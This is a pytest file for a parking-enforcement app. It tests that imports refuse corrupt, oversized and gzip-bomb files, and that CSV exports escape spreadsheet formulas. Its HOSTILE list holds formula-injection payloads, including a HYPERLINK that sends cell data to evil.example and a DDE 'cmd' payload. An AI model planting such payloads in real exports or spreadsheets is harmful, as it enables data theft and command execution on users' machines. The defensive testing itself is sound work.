"""Issue 14, findings 9 and 10 through the services: wrong and hostile files refused with one sentence and
nothing stored; a size limit on every file and on a gzip file's contents; exports that neutralise formulas."""

from __future__ import annotations

import csv
import gzip
import json
import tracemalloc
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select

from desktop.domain.errors import UserError
from desktop.domain.imports import MAX_LINE_CHARS, neutralise
from desktop.domain.roles import Role
from desktop.persistence.models import AuditEntry, Citation, Payment, Permit, QuarantinedEvent, RegisteredOwner, Zone
from desktop.services.cases import collections, owners, queries
from desktop.services.core import settings
from desktop.services.core.imports import MB, read_limited
from desktop.services.payments import daily_close, posting
from desktop.services.review import permits as permit_service
from desktop.services.review.zone_imports import import_zones
from desktop.services.sync import quarantine
from tests.helpers.factories import add_citation

from .conftest import ZONE

DATA = Path("/work/shared/data")
PERMIT_HEADER = "permit_number,type,holder_name,plates,zones,valid_from,valid_to\n"
OWNER_HEADER = ",".join(owners.COLUMNS) + "\n"


def _counts(app) -> tuple[int, int, int, int]:
    with app.db.reading() as s:
        return tuple(int(s.scalar(select(func.count()).select_from(m)) or 0)
                     for m in (Zone, Permit, RegisteredOwner, AuditEntry))  # type: ignore[return-value]


def _refused(call, *args) -> str:
    with pytest.raises(UserError) as err:
        call(*args)
    message = str(err.value)
    assert "Traceback" not in message and "\n" not in message
    return message


@pytest.fixture
def shared() -> Path:
    if not DATA.is_dir():
        pytest.skip("the shared data folder is not available")
    return DATA


def test_wrong_and_broken_shared_files_are_refused_and_nothing_is_stored(reference, actors, shared, tmp_path) -> None:
    admin, supervisor, clerk = actors[Role.ADMIN], actors[Role.SUPERVISOR], actors[Role.CLERK]
    before = _counts(reference)
    photo = shared / "photos_exif" / "misc" / "corrupted.jpg"
    ach_gz = shared / "bank_payment_files" / "nacha_ach_moov" / "PPD-200-batches-100000-entries.ach.gz"
    citations = shared / "citations" / "nyc_parking_tickets_extract.csv"
    meters = shared / "parking_zones_meters" / "parking_meters.geojson"
    crasher = shared / "bank_payment_files" / "nacha_ach_moov" / "crashers" / "0.ach"
    cases = [
        (import_zones, (reference, admin, photo), "not UTF-8 text"),
        (import_zones, (reference, admin, ach_gz), "not valid JSON"),
        (import_zones, (reference, admin, meters), "Zone feature 1: geometry type 'Point' is not supported"),
        (import_zones, (reference, admin, citations), "not valid JSON"),
        (permit_service.import_permits, (reference, supervisor, photo), "not UTF-8 text"),
        (permit_service.import_permits, (reference, supervisor, citations), "Line 1: missing column(s)"),
        (permit_service.import_permits, (reference, supervisor, crasher), "Line 1: missing column(s)"),
        (permit_service.import_permits, (reference, supervisor, ach_gz), "Line 1: missing column(s)"),
        (owners.import_owners, (reference, clerk, photo), "not UTF-8 text"),
        (owners.import_owners, (reference, clerk, citations), "the header lacks"),
        (owners.import_owners, (reference, clerk, meters), "the header lacks"),
    ]
    for call, args, words in cases:
        message = _refused(call, *args)
        assert words in message, (args[2].name, message)
        assert len(message) <= 2 * MAX_LINE_CHARS, (args[2].name, len(message))
    assert _counts(reference) == before


def test_every_import_has_a_size_limit_and_a_gzip_bomb_is_refused_in_constant_memory(reference, actors,
                                                                                    tmp_path) -> None:
    settings.set_value(reference, actors[Role.ADMIN], "imports.max_file_mb", 1)
    before = _counts(reference)
    big = tmp_path / "big.csv"
    big.write_text(PERMIT_HEADER + "x" * (MB + 10))
    bomb = tmp_path / "bomb.csv.gz"
    with gzip.open(bomb, "wb", compresslevel=1) as fh:  # 64 MB of zeros in a 64 KB file
        for _ in range(64):
            fh.write(bytes(MB))
    assert bomb.stat().st_size < MB
    for call, actor in ((permit_service.import_permits, actors[Role.SUPERVISOR]),
                        (owners.import_owners, actors[Role.CLERK]), (import_zones, actors[Role.ADMIN])):
        assert "is more than 1 MB, the limit for an import file" in _refused(call, reference, actor, big)
        assert "expands to more than 1 MB" in _refused(call, reference, actor, bomb)
    assert _counts(reference) == before
    tracemalloc.start()
    with pytest.raises(UserError, match="expands to more than 1 MB"):
        read_limited(bomb, MB)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 4 * MB, peak  # the limit plus a chunk or two, not the 64 MB inside
    small = tmp_path / "small.geojson.gz"
    small.write_bytes(gzip.compress(b'{"type": "FeatureCollection"}') + gzip.compress(b""))
    assert read_limited(small, MB) == b'{"type": "FeatureCollection"}'
    damaged = tmp_path / "damaged.gz"
    damaged.write_bytes(gzip.compress(b"x" * 1000)[:-20])
    assert "damaged gzip file" in _refused(read_limited, damaged, MB)
    assert "is a folder" in _refused(read_limited, tmp_path, MB)


def test_zone_import_refuses_wrong_types_and_stores_nothing(reference, actors, tmp_path) -> None:
    before = _counts(reference)
    ring = [[-122.45, 37.77], [-122.44, 37.77], [-122.44, 37.78], [-122.45, 37.78], [-122.45, 37.77]]
    good = {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [ring]},
            "properties": {"code": "Z-OK", "regulations": [{"kind": "time_limit", "limit_minutes": 60}]}}
    bad = json.loads(json.dumps(good))
    bad["properties"] = {"code": "Z-BAD", "regulations": [{"kind": "time_limit", "limit_minutes": "abc"}]}
    path = tmp_path / "zones.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [good, bad]}))
    message = _refused(import_zones, reference, actors[Role.ADMIN], path)
    assert message.startswith("Zone feature 2: regulation 1 property 'limit_minutes' must be a number, not 'abc'")
    assert message.endswith("(feature id 'Z-BAD')")
    assert _counts(reference) == before


# ---------------------------------------------------------------- exports


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\t=1+1", "\r=1+1"]


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_neutral(path: Path, expected: list[str]) -> None:
    cells = _cells(path)
    for value in expected:
        assert "'" + value in cells, (value, path.name)
        assert value not in cells, (value, path.name)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c.startswith("-") and not c.lstrip("-").isdigit())], path.name


def test_neutralise_keeps_numbers_and_escapes_text() -> None:
    assert neutralise(-1250) == -1250 and neutralise(3.5) == 3.5 and neutralise(None) == ""
    assert neutralise("-1250") == "'-1250" and neutralise("=1") == "'=1" and neutralise("ok=1") == "ok=1"
    assert neutralise(True) == "True"


def test_every_export_neutralises_formulas_from_hostile_names(reference, actors, tmp_path) -> None:
    app = reference
    clerk, supervisor = actors[Role.CLERK], actors[Role.SUPERVISOR]
    cid = add_citation(app, plate="7ABC123", status="in_collections", number="HX-1")
    with app.db.write_session() as s:
        owner = RegisteredOwner(plate="7ABC123", jurisdiction="CA", name=HOSTILE[0], name_key=HOSTILE[0].upper(),
                                address_raw=HOSTILE[1], address_line1=HOSTILE[2], city=HOSTILE[3],
                                address_status="ok", valid_from=date(2020, 1, 1), source="test",
                                imported_at=datetime(2026, 1, 1, tzinfo=UTC))
        s.add(owner)
        s.flush()
        citation = s.get(Citation, cid)
        citation.owner_id = owner.id
        citation.device_id = HOSTILE[4]
        citation.officer_badge = HOSTILE[1]
        for i, name in enumerate(HOSTILE):
            s.add(Payment(source="bank", method="ach", external_id=f"{name}-{i}", amount_cents=-1250 if i == 3 else 100,
                          received_at=datetime(2026, 11, 20, tzinfo=UTC), value_date=date(2026, 11, 20),
                          reference=name, payer_name=name, status="unmatched", reversal_reason=name))
        s.add(QuarantinedEvent(event_id=HOSTILE[0], device_id=HOSTILE[2], type=HOSTILE[3], reason=HOSTILE[1],
                               raw="{}", source=HOSTILE[5], received_at=datetime(2026, 11, 20, tzinfo=UTC)))
        s.commit()
    out = tmp_path / "payments.csv"
    posting.export_payments(app, clerk, out)
    _assert_neutral(out, HOSTILE)
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert "-1250" in [r["amount_cents"] for r in rows]  # a negative amount stays a number
    out = tmp_path / "collections.csv"
    collections.export_collections(app, clerk, out)
    _assert_neutral(out, HOSTILE[:4])
    out = tmp_path / "citations.csv"
    queries.export_citations(app, clerk, out)
    _assert_neutral(out, [HOSTILE[1], HOSTILE[4]])
    out = tmp_path / "quarantine.csv"
    quarantine.export_quarantine(app, supervisor, out)
    _assert_neutral(out, [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[5]])
    out = tmp_path / "gl.csv"
    daily_close.export_gl(app, supervisor, date(2026, 11, 20), out)
    assert all(not c.startswith(("=", "+", "@")) for c in _cells(out))


def test_permit_import_with_zone_known(reference, actors, tmp_path) -> None:
    """The bounded reader still reads a good file (and a gzip one)."""
    path = tmp_path / "permits.csv.gz"
    path.write_bytes(gzip.compress(
        (PERMIT_HEADER + f"RPP-1,residential,GARCIA,7ABC123:CA,{ZONE},2026-01-01,2026-12-31\n").encode()))
    assert permit_service.import_permits(reference, actors[Role.SUPERVISOR], path).added == 1
